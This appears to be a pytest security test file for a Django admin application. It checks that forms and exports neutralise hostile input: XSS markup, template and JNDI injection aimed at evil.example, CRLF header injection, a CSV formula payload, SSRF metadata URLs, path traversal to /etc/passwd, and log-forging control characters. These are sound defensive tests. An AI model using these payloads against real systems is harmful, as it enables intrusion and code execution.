"""Hostile text in every text field of every form, and what becomes of it on every page, in every title and export.

BI-20, BI-23, BI-37, BI-39, BI-40.
"""

import csv
import io
import json
import logging
import re
import zipfile
from html import unescape
from typing import Any, Final

import pytest
from django.core.cache import cache
from django.db import connection

from qualadmin.audit.models import AuditEntry
from qualadmin.core.models import RequesterAccount
from qualadmin.logs import JsonFormatter
from tests.security.hostile_forms import FORMS, PASSWORD, WITHOUT_TEXT
from tests.security.stage import PRACTICE, Stage, undone
from tests.security.table import ANYBODY, NOBODY, TABLE
from tests.security.writes import written
from tests.web.html import assert_valid_page

pytestmark = pytest.mark.django_db

HOSTILE: Final = {
    "markup": '"><script>alert(1)</script><img src=x onerror=alert(1)>',
    "template": "{{7*7}}{% debug %}${jndi:ldap://evil.example/x}",
    "header": "%0d%0aSet-Cookie: evil=1 javascript:alert(1)",
    "formula": "=HYPERLINK(1)+cmd|' /C calc'!A0",
}
#: Who looks at the pages afterwards: both at what would run in their browsers, else each at every second text.
READERS: Final = {
    "markup": ("manager", "granter"), "template": ("granter",), "header": ("manager",), "formula": ("granter",),
}  # fmt: skip
#: What would be markup if it were not escaped.
RAW: Final = ("<script>alert", "<img src=x", "onerror=alert(1)>")


def fill(stage: Stage, url_name: str, name: str, fields: dict[str, str], text: str) -> Any:
    """Send the form with `text` in it."""
    known = {"{type}": str(stage.things[PRACTICE]["type"])}
    answers = {key: known.get(value, value.replace("{x}", text)) for key, value in fields.items()}
    address = stage.address(url_name, TABLE[url_name].thing, name or None, PRACTICE)
    return stage.client(name or None, PRACTICE).post(address, {**stage.fields(name or None, PRACTICE), **answers})


def pages(stage: Stage, readers: tuple[str, ...]) -> list[tuple[str, Any]]:
    """Every page and file that a GET gives to the readers, or to the manager where they are refused it."""
    found = []
    for url_name, row in TABLE.items():
        if not row.get or url_name.startswith("styleguide") or url_name == "readyz":  # holds no text
            continue
        let_in = [name for name in readers if row.who in {ANYBODY, NOBODY} or name[0] in row.who]
        for name in let_in or ["manager"]:
            client = stage.client(name, PRACTICE)
            address = stage.address(url_name, row.thing, name, PRACTICE)
            found.append((f"{name} {url_name}", client.get(address)))
    newest = stage.client("manager", PRACTICE)
    numbers = AuditEntry.objects.newest().values_list("seq", flat=True)[:12]
    found += [(f"entry {seq}", newest.get(f"/audit/{seq}/")) for seq in numbers]
    return found


def text_of(response: Any) -> str:
    """The answer as text; of an archive what its files hold."""
    content = b"".join(response.streaming_content) if response.streaming else response.content
    if response.headers.get("Content-Type") == "application/zip":
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            names = [name for name in archive.namelist() if not name.endswith(".bin")]
            content = b"\n".join(archive.read(name) for name in names)
    return content.decode("utf-8-sig")


def test_every_form_with_text_is_here() -> None:
    sent = {url_name for url_name, _, _ in FORMS}
    assert sent | WITHOUT_TEXT == {name for name, row in TABLE.items() if row.post}
    assert not sent & WITHOUT_TEXT


@pytest.mark.parametrize("kind", HOSTILE)
def test_bi_20_it_is_text_everywhere(stage: Stage, kind: str) -> None:
    """BI-20: in the answer of the form, on every page afterwards, in titles, headers and files."""
    text, faults, accepted = HOSTILE[kind], [], 0
    with undone():
        cache.clear()
        for url_name, name, fields in FORMS:
            with written() as tables:
                response = fill(stage, url_name, name, fields, text)
            if response.status_code not in {200, 302, 400, 404, 409, 422}:
                faults.append((url_name, response.status_code))
            if response.status_code not in {200, 302} and tables - {"core_preview", "core_previewrow"}:
                faults.append((url_name, response.status_code, f"wrote to {tables}"))
            accepted += response.status_code == 302
            faults += _markup(url_name, response, text)
        for where, response in pages(stage, READERS[kind]):
            if response.status_code >= 400 and response.status_code not in {403, 409}:
                faults.append((where, response.status_code))
            faults += _markup(where, response, text)
    assert faults == []
    assert accepted >= 8, "too little of it got in for this to tell anything"


def _markup(where: str, response: Any, text: str) -> list[tuple[Any, ...]]:
    headers = str(response.headers)
    faults: list[tuple[Any, ...]] = []
    if "evil=1" in response.cookies or "\r" in headers or "<script" in headers:
        faults.append((where, "a header"))
    body = text_of(response)
    kind = response.headers.get("Content-Type", "")
    if kind.startswith("text/csv"):
        cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
        return faults + [(where, cell) for cell in cells if cell[:1] in "=+-@\t\r" and cell[1:2].isalpha()]
    if not kind.startswith("text/html"):
        return faults
    faults += [(where, raw) for raw in RAW if raw in body]
    if "49" in body and "{{7*7}}" in text and re.search(r"\b49\{% ?debug", unescape(body)):
        faults.append((where, "the template was run"))
    title = re.search(r"<title>(.*?)</title>", body, re.S)
    if title and re.search(r"[<>]", title[1]):
        faults.append((where, title[1]))
    if body.lstrip().startswith("<!doctype") and "{{" not in text and "{%" not in text:
        try:
            assert_valid_page(response)
        except AssertionError as error:
            faults.append((where, str(error)[:300]))
    return faults


SECRETS: Final = ("AKIAIOSFODNN7EXAMPLE", "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY")


@pytest.mark.parametrize("secret", SECRETS)
def test_bi_40_a_credential_in_any_text_field_is_kept_nowhere(
    stage: Stage, secret: str, caplog: pytest.LogCaptureFixture
) -> None:
    """BI-40: not in any table and not in the log; fields for lists of workers keep what was pasted, as a fault."""
    caplog.set_level(logging.DEBUG)
    lists = {"list", "worker_id"}
    with undone():
        cache.clear()
        for url_name, name, fields in FORMS:
            if url_name in {"password", "person-password", "sign-in"}:
                continue  # a password may look like anything, and only its hash is kept
            answers = {
                key: value if key not in lists else value.replace("{x}", "") for key, value in fields.items()
            }
            response = fill(stage, url_name, name, answers, f"key {secret}" if url_name != "theme" else secret)
            assert response.status_code < 500, url_name
        assert _tables_with(secret) == []
        assert secret not in str(dict(stage.client("granter", PRACTICE).session.items()))
    assert secret not in caplog.text


def _tables_with(text: str) -> list[str]:
    """Tables that hold `text` in any column."""
    found = []
    with connection.cursor() as cursor:
        for table in connection.introspection.table_names(cursor):
            cursor.execute(f'SELECT * FROM "{table}"')
            for row in cursor.fetchall():
                cells = (bytes(one) if isinstance(one, memoryview) else one for one in row)
                if any(text in (one.decode("latin-1") if isinstance(one, bytes) else str(one)) for one in cells):
                    found.append(table)
                    break
    return found


@pytest.mark.parametrize("char", ["\n", "\r\n", "\x1b[2J", "\x00", "\x85", "\u2028", "\u202e", "\u200b"])
def test_bi_23_a_name_holds_no_line_break_and_no_terminal_code(stage: Stage, char: str) -> None:
    """BI-23: refused in every name, so that no log line or report can be forged with one."""
    name = f"Ann{char}ERROR all is lost"
    for url_name, who, fields in (
        ("study-add", "manager", {"title": name}),
        ("account-add", "manager", {"name": name, "environment": "emulator"}),
        ("person-edit", "manager", {"full_name": name}),
        ("person-invite", "manager", {"full_name": name, "username": "ann", "password": PASSWORD}),
    ):
        with undone(), written() as tables:
            response = fill(stage, url_name, who, fields, "")
        assert (response.status_code, tables) == (422, set()), (url_name, char)
        assert_valid_page(response)
    with undone():  # a pause must not fail for the want of words: what cannot be seen is written out
        status = fill(stage, "account-pause", "manager", {"cause": name}, "").status_code
        assert status == (422 if char == "\x00" else 302)
        assert RequesterAccount.objects.get(pk=stage.cast.account.pk).paused_reason.isprintable()


def test_bi_23_a_log_line_is_one_line() -> None:
    """BI-23: whatever a message holds, it is one line of JSON without control characters."""
    record = logging.LogRecord("x", logging.INFO, "", 1, "name: %s", ("a\nERROR b\x1b[31m\r\x00",), None)
    line = JsonFormatter().format(record)
    assert len(line.splitlines()) == 1
    assert "\x1b" not in line
    assert json.loads(line)["text"] == "name: a\nERROR b\x1b[31m\r\x00"


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("role_arn", "http://169.254.169.254/latest/meta-data/"),
        ("role_arn", "arn:aws-cn:iam::123456789012:role/name"),
        ("role_arn", "arn:aws:iam::123456789012:role/na me"),
        ("role_arn", "arn:aws:iam::123456789012:user/name"),
        ("role_arn", "arn:aws:iam::12345678901:role/name"),
        ("role_arn", "arn:aws:iam::123456789012:role/name\nx"),
        ("profile_name", "../../etc/passwd"),
        ("profile_name", "http://169.254.169.254/"),
        ("external_id", "x" * 2_000),
        ("aws_account_id", "12345678901٢"),
    ],
)
def test_bi_39_an_accounts_access_takes_no_address(stage: Stage, field: str, value: str) -> None:
    """BI-39: refused at the page; an endpoint that somebody adds to the form is ignored."""
    fields = {"name": "Far away", "environment": "sandbox", "profile_name": "lab", field: value}
    if field == "external_id":
        fields["role_arn"] = "arn:aws:iam::123456789012:role/name"
    with undone(), written() as tables:
        response = fill(stage, "account-add", "manager", fields, "")
    assert (response.status_code, tables) == (422, set())
    page = stage.client("manager", PRACTICE).get("/accounts/add/").content.decode()
    assert not re.search(r'name="[^"]*(?:url|endpoint|host|region)', page)
